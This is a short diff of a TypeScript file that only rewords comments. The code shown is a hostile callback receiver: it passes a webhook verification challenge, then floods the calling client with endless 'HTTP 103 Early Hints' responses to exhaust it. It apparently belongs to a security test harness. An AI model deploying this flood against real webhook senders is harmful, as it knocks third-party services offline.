@@ -6,7 +6,7 @@ import type { Target } from '../target.ts'
 
 const INTERIM = Buffer.from('HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n'.repeat(1_000))
 
-/** Interim answers for as long as they are taken. */
+/** Sends interim answers for as long as the client reads them. */
 function flood(socket: Socket): void {
   const more = () => {
     while (!socket.destroyed && socket.write(INTERIM));
@@ -15,7 +15,7 @@ function flood(socket: Socket): void {
   more()
 }
 
-/** Proves itself as a receiver of callbacks; whatever comes later is answered with interim answers without end. */
+/** Passes the challenge of a callback receiver; answers every later request with endless interim answers. */
 function receive(socket: Socket): void {
   let text = ''
   socket.on('error', () => undefined)
